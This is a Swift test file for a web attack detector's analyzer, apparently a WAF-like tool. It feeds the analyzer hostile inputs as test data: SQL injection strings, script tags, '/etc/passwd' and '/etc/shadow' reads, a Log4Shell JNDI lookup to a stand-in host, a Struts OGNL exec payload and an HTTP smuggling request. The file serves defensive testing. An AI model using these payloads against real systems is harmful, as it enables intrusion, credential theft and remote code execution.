import MirrorGuardCore
import RequestParsing
import Testing
@testable import Detection

@Suite("Analyzer")
struct AnalyzerTests {
    func request(_ target: String, headers: HeaderFields = [], body: String = "") -> Exchange {
        Exchange(request: HTTPRequest(method: "POST", target: target, headers: headers, body: Array(body.utf8)))
    }

    @Test("benign requests produce no hits and keep their points")
    func benign() {
        let analysis = Analyzer().analyze(request("/search?q=red+shoes&page=2", headers: [("Host", "shop.test"), ("Cookie", "s=abc")]))
        #expect(analysis.hits.isEmpty)
        #expect(!analysis.isAttack)
        #expect(analysis.points.contains { $0.name == "query.q" })
    }

    @Test("an attack is reported once with point, fragment, detector, context and reason")
    func attack() throws {
        let analysis = Analyzer().analyze(request("/item?id=1%20UNION%20SELECT%20password%20FROM%20users"))
        let hit = try #require(analysis.hits.first)
        #expect(analysis.hits.count == 1)
        #expect(hit.type == .sqli)
        #expect(hit.point == "query.id")
        #expect(hit.detector == "sqli.grammar")
        #expect(hit.fragment.contains("UNION SELECT"))
    }

    @Test("a hit on a decoded point is not repeated for the same attack on its source")
    func derivedDuplicates() {
        // The container already decodes once; the second encoding layer yields query.q|percent.
        let analysis = Analyzer().analyze(request("/?q=%253Cscript%253Ealert(1)%253C/script%253E"))
        #expect(analysis.hits.count == 1)
        #expect(analysis.hits.first?.point == "query.q|percent")
    }

    @Test("the same value in several points is inspected once per exchange")
    func sameValueOnce() {
        let analysis = Analyzer().analyze(request("/?a=%3Cscript%3Ex%3C/script%3E&b=%3Cscript%3Ex%3C/script%3E"))
        #expect(analysis.hits.count == 1)
    }

    @Test("word keys packed eight bytes at a time equal a byte-by-byte packing, for every length and byte class")
    func wordKeys() {
        func reference(_ bytes: [UInt8]) -> (UInt64, UInt64)? {
            guard !bytes.isEmpty, bytes.count <= 16 else { return nil }
            var low: UInt64 = 0
            var high: UInt64 = 0
            for (offset, byte) in bytes.enumerated() {
                guard byte >= 0x21 && byte < 0x7F else { return nil }
                let lowered = UInt64(byte >= 0x41 && byte <= 0x5A ? byte | 0x20 : byte)
                if offset < 8 { low |= lowered << (8 * UInt64(offset)) } else { high |= lowered << (8 * UInt64(offset - 8)) }
            }
            return (low, high)
        }
        // A fixed sequence (no seed to chase): lengths 0…17, bytes drawn from all 256 values and from the edges.
        var state: UInt64 = 0x9E37_79B9_7F4A_7C15
        let edges: [UInt8] = [0x00, 0x20, 0x21, 0x40, 0x41, 0x5A, 0x5B, 0x60, 0x61, 0x7A, 0x7E, 0x7F, 0x80, 0xFF]
        for round in 0..<4000 {
            let length = round % 18
            let bytes = (0..<length).map { _ -> UInt8 in
                state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
                let draw = UInt8(truncatingIfNeeded: state >> 33)
                return round % 3 == 0 ? edges[Int(draw) % edges.count] : (round % 3 == 1 ? 0x21 + draw % 0x5E : draw)
            }
            let key = bytes.withUnsafeBufferPointer { NameKey($0) }
            let expected = reference(bytes)
            #expect(key?.low == expected?.0 && key?.high == expected?.1, "\(bytes)")
        }
    }

    @Test("values that share a fingerprint (length, first and last eight bytes) are each inspected")
    func fingerprintCollision() throws {
        // Same length, same edges, different middles: only the second is an injection.
        let benign = "12345678-plain-text-of-the-same-size-87654321"
        let attack = "12345678' OR 'a'='a' UNION SELECT pass FROM u-87654321"
        let padded = String(benign.dropLast(8)) + String(repeating: "x", count: attack.utf8.count - benign.utf8.count) + "87654321"
        try #require(padded.utf8.count == attack.utf8.count)
        let fingerprints = [padded, attack].map { text in Array(text.utf8).withUnsafeBufferPointer { ValueProfile($0).fingerprint } }
        try #require(fingerprints[0] == fingerprints[1])
        let query = [padded, attack].map { text in
            text.utf8.map { byte in
                ASCII.isLetter(byte) || ASCII.isDigit(byte) ? String(UnicodeScalar(byte)) : "%" + String(byte, radix: 16, uppercase: true)
            }.joined()
        }
        let analysis = Analyzer().analyze(request("/?a=\(query[0])&b=\(query[1])"))
        #expect(analysis.hits.contains { $0.type == .sqli && $0.point == "query.b" })
    }

    @Test("once the table of inspected values is full, later values are still inspected, repeats included")
    func manyDistinctValues() {
        let filler = (0..<(Analyzer.seenSlots / 2 + 20)).map { "p\($0)=value-\($0)" }.joined(separator: "&")
        let attack = "1%27%20UNION%20SELECT%20password%20FROM%20users--"
        let analysis = Analyzer().analyze(request("/?\(filler)&a=\(attack)&b=\(attack)"))
        #expect(analysis.hits.contains { $0.type == .sqli && $0.point == "query.a" })
        #expect(analysis.hits.allSatisfy { $0.point == "query.a" || $0.point == "query.b" })
    }

    @Test("prefilter answers remembered by byte classes equal the prefilters' own, colliding slots included")
    func prefilterMemo() {
        let set = DetectorSet(enabled: Set(DetectorSet.order))
        let registry = DetectorRegistry.allDetectors()
        var run = DetectorRun(value: UnsafeBufferPointer(start: nil, count: 0), profile: ValueProfile(UnsafeBufferPointer(start: nil, count: 0)),
                              context: DetectionContext(), clock: nil)
        var state: UInt64 = 0x6D65_6D6F
        let alphabet = Array("' \"`()<>;=-#/*!@$%&|^~,.:?[]{}\\+ 09azAZ\n\t".utf8) + [0x00, 0xC3, 0xFF]
        withUnsafeTemporaryAllocation(of: UInt64.self, capacity: 2 * DetectorRun.memoSlots) { memo in
            memo.initialize(repeating: 0)
            run.memo = memo
            var answers = Set<UInt64>()
            for _ in 0..<5000 {
                state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
                let bytes = (0..<Int(state >> 60)).map { offset in alphabet[Int((state >> (UInt64(offset) * 4 % 56)) % UInt64(alphabet.count))] }
                bytes.withUnsafeBufferPointer { value in
                    run.profile = ValueProfile(value)
                    let expected = set.wants(run.profile)
                    answers.insert(expected)
                    // The set's list of prefilters is the registry's, in its order.
                    let byRegistry = registry.enumerated().reduce(UInt64(0)) { $0 | ($1.element.wants(run.profile) ? 1 << UInt64($1.offset) : 0) }
                    #expect(expected == byRegistry, "\(bytes)")
                    #expect(set.wanted(&run) == expected && set.wanted(&run) == expected, "\(bytes)")
                }
            }
            #expect(answers.count > 20)
            run.memo = UnsafeMutableBufferPointer(start: nil, count: 0)
        }
    }

    @Test("tables written out as literals equal their definitions")
    func literalTables() {
        #expect(ValueProfile.table == ValueProfile.makeTable())
        #expect(SegmentedPath.byteClass == SegmentedPath.makeByteClass())
        #expect(DetectorSet.nameDependent == DetectorSet.bits(for: ["redir.url", "ldapi.filter"]))
        #expect(DetectorSet.scanner == DetectorSet.bits(for: ["scanner.signature"]))
    }

    @Test("a repeated value still meets the detectors that read the parameter's name")
    func repeatedValueInNamedParameter() {
        // `ref` is no redirect parameter and `q` no directory attribute; `next` and `uid` are.
        let redirect = Analyzer().analyze(request("/login?ref=https://evil.test/&next=https://evil.test/", headers: [("Host", "shop.test")]))
        #expect(redirect.hits.contains { $0.type == .redir && $0.point == "query.next" })
        let wildcard = Analyzer().analyze(request("/people?q=adm*&uid=adm*"))
        #expect(wildcard.hits.contains { $0.type == .ldapi && $0.point == "query.uid" })
        #expect(!wildcard.hits.contains { $0.point == "query.q" })
    }

    @Test("a url nested in a JSON document is a page it describes, a top-level one may be a redirect target")
    func nestedURLsInJSON() {
        let beacon = #"{"batch":[{"event":"Viewed","context":{"page":{"url":"https://shop.test/p/1"}}}],"next":"https://evil.test/"}"#
        let analysis = Analyzer().analyze(request("/v1/batch", headers: [("Host", "collector.test"), ("Content-Type", "application/json")], body: beacon))
        #expect(!analysis.hits.contains { $0.point.hasPrefix("body.json.batch") })
        #expect(analysis.hits.contains { $0.type == .redir && $0.point == "body.json.next" })
    }

    @Test("detectors can be disabled by id or by class")
    func disabling() {
        var configuration = AnalyzerConfiguration()
        configuration.disabledDetectors = ["sqli"]
        let analyzer = Analyzer(configuration: configuration)
        #expect(!analyzer.detectorIDs.contains("sqli.grammar"))
        #expect(analyzer.analyze(request("/?id=1%20OR%201=1")).hits.isEmpty)
        configuration.disabledDetectors = ["xss.html"]
        #expect(!Analyzer(configuration: configuration).detectorIDs.contains("xss.html"))
    }

    @Test("the static call order is the registry's, and every detector id is unique and of its class")
    func registryOrder() {
        let ids = DetectorRegistry.allDetectors().map(\.id)
        #expect(ids == DetectorSet.order)
        #expect(Set(ids).count == ids.count)
        for detector in DetectorRegistry.allDetectors() {
            let family = String(detector.id.prefix { $0 != "." })
            #expect(family == detector.attackType.rawValue, "\(detector.id) reports \(detector.attackType)")
        }
        #expect(Analyzer().detectorIDs.contains(ProtocolAnomalies.detectorID))
        // The masks name detectors by their place in this order.
        #expect(DetectorSet.order[6] == "redir.url" && DetectorSet.order[11] == "ldapi.filter")
        #expect(DetectorSet.order[15] == "scanner.signature")
    }

    @Test("header values within a closed grammar are read by the scanner detector only, any other value by all")
    func closedHeaderGrammar() {
        for value in ["text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", "gzip, deflate, br",
                      "en-US,en;q=0.9", "keep-alive", "max-age=0", "no-cache", "1", "application/json; charset=utf-8",
                      "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"] {
            #expect(value.utf8.withContiguousStorageIfAvailable { ClosedHeaderGrammar.accepts($0) } == true, "\(value)")
        }
        for value in ["text/html' OR '1'='1", "../../../../etc/passwd", "${jndi:ldap://x.test/a}", "text/html, <script>", "a;b", "x/y/z",
                      "en-US,,en", "q=1 OR 1=1", "gzip,", "%{(#_='multipart/form-data').(#cmd='id')}", "application/json;charset=utf-8'--"] {
            #expect(value.utf8.withContiguousStorageIfAvailable { ClosedHeaderGrammar.accepts($0) } == false, "\(value)")
        }
        let injected = Analyzer().analyze(request("/", headers: [("Accept", "text/html' OR '1'='1"), ("Accept-Language", "../../../../etc/passwd")]))
        #expect(injected.hits.contains { $0.type == .sqli && $0.point == "header.accept" })
        #expect(injected.hits.contains { $0.type == .ptrav && $0.point == "header.accept-language" })
        // Content-Type is closed too: the Struts OGNL payload it is known for leaves the grammar at once.
        let ognl = Analyzer().analyze(request("/", headers: [("Content-Type", "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}")]))
        #expect(ognl.hits.contains { $0.point == "header.content-type" })
        let callback = Analyzer().analyze(request("/", headers: [("Accept", "x7k2.oast.fun")]))
        #expect(callback.hits.contains { $0.type == .scanner && $0.point == "header.accept" })
        let browser = Analyzer().analyze(request("/", headers: [("Accept", "text/html,*/*;q=0.8"), ("Connection", "keep-alive")]))
        #expect(browser.hits.isEmpty)
    }

    @Test("a disabled detector stays quiet inside the full analyser, the others still run")
    func disablingOneOfMany() {
        let exchange = request("/?file=../../../../etc/passwd&cmd=%3Bcat%20/etc/shadow")
        let all = Analyzer().analyze(exchange)
        #expect(Set(all.hits.map(\.type)).isSuperset(of: [.ptrav, .rce]))
        var configuration = AnalyzerConfiguration()
        configuration.disabledDetectors = ["ptrav"]
        let without = Analyzer(configuration: configuration).analyze(exchange)
        #expect(!without.hits.contains { $0.type == .ptrav })
        #expect(without.hits.contains { $0.type == .rce })
    }

    /// Frames raw bytes into exchanges the way `scan` does.
    func exchanges(_ raw: String) -> [Exchange] {
        var parser = HTTPStreamParser()
        return parser.feed(Array(raw.utf8)).compactMap { event -> Exchange? in
            guard case let .message(message) = event, let request = message.request else { return nil }
            return Exchange(request: request, anomalies: message.anomalies)
        }
    }

    @Test("smuggling anomalies are protocol hits; a clean request has none; the class can be switched off")
    func protocolHits() throws {
        let raw = "POST /a HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        let exchange = try #require(exchanges(raw).first)
        let hits = Analyzer().analyze(exchange).hits.filter { $0.type == .protocol }
        #expect(hits.count == 1)
        #expect(hits.first?.context == "content_length_with_transfer_encoding")
        #expect(hits.first?.detector == "protocol.framing")
        var configuration = AnalyzerConfiguration()
        configuration.disabledDetectors = ["protocol"]
        #expect(Analyzer(configuration: configuration).analyze(exchange).hits.filter { $0.type == .protocol }.isEmpty)
        let good = exchanges("GET /a HTTP/1.1\r\nHost: shop.test\r\n\r\n")
        #expect(Analyzer().analyze(try #require(good.first)).hits.isEmpty)
    }

    @Test("a redirect to another site counts, to the request's own host it does not")
    func redirectUsesHost() {
        let headers: HeaderFields = [("Host", "shop.test")]
        #expect(Analyzer().analyze(request("/login?next=https://www.shop.test/account", headers: headers)).hits.isEmpty)
        let away = Analyzer().analyze(request("/login?next=https://evil.test/account", headers: headers))
        #expect(away.hits.map(\.type) == [.redir])
    }

    @Test("hits per exchange are bounded")
    func hitBound() {
        var configuration = AnalyzerConfiguration()
        configuration.maxHitsPerExchange = 3
        let query = (0..<20).map { "p\($0)=\($0)%20OR%201=1" }.joined(separator: "&")
        #expect(Analyzer(configuration: configuration).analyze(request("/?" + query)).hits.count == 3)
    }

    @Test("timings are collected per detector when a clock is given")
    func timings() {
        var configuration = AnalyzerConfiguration()
        nonisolated(unsafe) var ticks: UInt64 = 0
        configuration.clock = { ticks += 10; return ticks }
        let analysis = Analyzer(configuration: configuration).analyze(request("/?q=it%27s%20a%20test&x=%3Cb%3E"))
        #expect(analysis.timings["sqli.grammar", default: 0] > 0)
        #expect(Analyzer().analyze(request("/?q=x")).timings.isEmpty)
    }

    @Test("exchange and content anomalies are both reported")
    func anomalies() {
        var exchange = request("/", headers: [("Content-Type", "application/json")], body: "{\"a\":")
        exchange.anomalies = [Anomaly(.bareLF, "x")]
        let kinds = Analyzer().analyze(exchange).anomalies.map(\.kind)
        #expect(kinds == [.bareLF, .invalidJSON])
    }

    @Test("random bytes never trap any detector")
    func randomValues() {
        var state: UInt64 = 0x1234_5678
        func next() -> UInt64 {
            state = state &* 6364136223846793005 &+ 1442695040888963407
            return state >> 33
        }
        let alphabet = Array("' \"`()<>;=-#/*!@$%&|^~,.:?[]{}\\+ 0123456789abcdefgORANDUNIONSELECTscriptonerroralert\n\t\u{0}".utf8) + [0xC3, 0xA9, 0xFF, 0xA0]
        let detectors = DetectorRegistry.allDetectors()
        for _ in 0..<3000 {
            let length = Int(next() % 300)
            let bytes = (0..<length).map { _ in alphabet[Int(next() % UInt64(alphabet.count))] }
            let point = Point(name: "query.q", value: bytes, location: .query)
            var found: [Hit] = []
            bytes.withUnsafeBufferPointer { buffer in
                let profile = ValueProfile(buffer)
                for detector in detectors { detector.inspect(buffer, point: point, profile: profile, into: &found) }
            }
            for hit in found { #expect(hit.fragment.utf8.count <= Hit.maxFragmentBytes) }
        }
    }

    @Test("deeply nested input stays within the recursion bound")
    func deepNesting() {
        let detectors = DetectorRegistry.allDetectors()
        for value in [String(repeating: "(", count: 20_000) + "1", "1 OR " + String(repeating: "(", count: 20_000),
                      String(repeating: "<a ", count: 5_000), String(repeating: "'", count: 10_000)] {
            let bytes = Array(value.utf8)
            let point = Point(name: "q", value: bytes, location: .query)
            var found: [Hit] = []
            bytes.withUnsafeBufferPointer { buffer in
                let profile = ValueProfile(buffer)
                for detector in detectors { detector.inspect(buffer, point: point, profile: profile, into: &found) }
            }
            #expect(found.count <= 2)
        }
    }
}
